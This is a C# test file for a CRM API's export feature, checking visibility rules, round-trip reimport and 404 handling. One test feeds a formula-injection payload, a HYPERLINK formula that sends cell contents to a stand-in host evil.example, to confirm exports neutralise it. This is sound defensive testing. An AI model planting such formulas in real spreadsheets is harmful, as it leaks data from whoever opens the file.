using System.Net;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using OutlookCrm.Api.Import;
using OutlookCrm.Api.Tests.Import;
using OutlookCrm.Api.Tests.Infrastructure;

namespace OutlookCrm.Api.Tests.Export;

public abstract class ExportTests : ApiTest
{
    [TestMethod]
    public async Task ARepExportsOnlyTheCustomersTheyMaySee()
    {
        var mine = await NewCompany(As(Team.RepA), "Export Mine SARL");
        await NewContact(As(Team.RepA), mine.Id, "Visible", "visible@export-mine.fr");
        var other = await NewCompany(As(Team.RepB), "Export Theirs SARL");
        await NewContact(As(Team.RepB), other.Id, "Hidden", "hidden@export-theirs.fr");
        await NewVisit(As(Team.RepB), other.Id);

        var companies = await Csv(As(Team.RepA), "companies.csv");
        var contacts = await Csv(As(Team.RepA), "contacts.csv");
        var activities = await Csv(As(Team.RepA), "activities.csv");

        Assert.IsTrue(companies.Any(r => r.Contains("Export Mine SARL")));
        Assert.IsFalse(companies.Any(r => r.Contains("Export Theirs SARL")), "another rep's customer is not exported");
        Assert.IsTrue(contacts.Any(r => r.Contains("visible@export-mine.fr")));
        Assert.IsFalse(contacts.Any(r => r.Contains("hidden@export-theirs.fr")));
        Assert.IsFalse(activities.Skip(1).Any(r => r.Contains("Export Theirs SARL")));
        Assert.IsTrue((await Csv(As(Team.NorthManager), "companies.csv")).Any(r => r.Contains("Export Theirs SARL")), "their manager sees it");
    }

    [TestMethod]
    public async Task FormulaCellsAreNeutralisedInCsvAndStayTextInXlsx()
    {
        var manager = As(Team.NorthManager);
        await (await manager.Import("formula-injection.csv")).Read<ImportSummary>();

        var rows = await Csv(manager, "companies.csv");
        var hyperlink = rows.Single(r => r.Any(c => c.Contains("HYPERLINK")));
        Assert.AreEqual("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", hyperlink[2]);
        Assert.AreEqual("+33 1 00 00 00 00", hyperlink[11], "a phone number is left as it is: nothing to run, and no apostrophe to see");
        Assert.AreEqual("'-2+3 Conseil", rows.Single(r => r.Contains("'-2+3 Conseil"))[2]);

        var xlsx = await (await manager.GetAsync("/api/export/companies.xlsx")).Content.ReadAsByteArrayAsync();
        using var doc = SpreadsheetDocument.Open(new MemoryStream(xlsx), false);
        var sheet = doc.WorkbookPart!.WorksheetParts.Single().Worksheet;
        Assert.AreEqual(0, sheet.Descendants<CellFormula>().Count(), "no cell of an export is a formula");
        Assert.IsTrue(sheet.Descendants<Cell>().Any(c => c.InnerText == "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
            "the text itself is kept, as a string cell");
        Assert.AreEqual(0, new OpenXmlValidator().Validate(doc).Count(), "the workbook is valid Open XML");
    }

    [TestMethod]
    public async Task AnExportReimportsWithoutChangingAnything()
    {
        var manager = As(Team.NorthManager);
        var company = await NewCompany(manager, "Round Trip SA", Team.RepA);
        await manager.Patch($"/api/companies/{company.Id}", new { name = company.Name, status = "Client", postalCode = "59000", city = "Lille",
            phone = "+33 3 20 00 00 00", externalKey = "RT-1", accountManagerId = Team.RepA.Id }, Tag(company.Version));
        await NewContact(manager, company.Id, "Aller-Retour", "aller.retour@round-trip.fr");

        foreach (var file in new[] { "companies.csv", "contacts.csv" })
        {
            var export = await (await manager.GetAsync($"/api/export/{file}?separator=;")).Content.ReadAsByteArrayAsync();
            var summary = await (await manager.ImportBytes(export, name: file)).Read<ImportSummary>();
            Assert.AreEqual((0, 0, 0, 0), (summary.Companies.Created, summary.Companies.Updated, summary.Contacts.Created, summary.Contacts.Updated),
                $"{file}: {summary.Message}");
            Assert.IsTrue(summary.Companies.Unchanged > 0, summary.Message);
        }
    }

    [TestMethod]
    public async Task AnUnknownExportIsA404Problem()
    {
        await (await As(Team.RepA).GetAsync("/api/export/salaries.csv")).AssertProblem(HttpStatusCode.NotFound);
        await (await As(Team.RepA).GetAsync("/api/export/companies.pdf")).AssertProblem(HttpStatusCode.NotFound);
    }

    private static async Task<List<string[]>> Csv(HttpClient client, string file)
    {
        var response = await client.GetAsync($"/api/export/{file}");
        Assert.AreEqual(HttpStatusCode.OK, response.StatusCode);
        var text = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()).TrimStart('\uFEFF');
        using var csv = CsvHelper.CsvReader.FromText(text, CsvHelper.CsvReaderOptions.Default with { Separator = ',', HasHeader = false });
        var rows = new List<string[]>();
        while (csv.Read()) rows.Add([.. Enumerable.Range(0, csv.FieldCount).Select(csv.GetString)]);
        return rows;
    }
}

[TestClass] public sealed class ExportOnSqlite : ExportTests { protected override Provider Provider => Provider.Sqlite; }
[TestClass] public sealed class ExportOnPostgreSql : ExportTests { protected override Provider Provider => Provider.PostgreSql; }
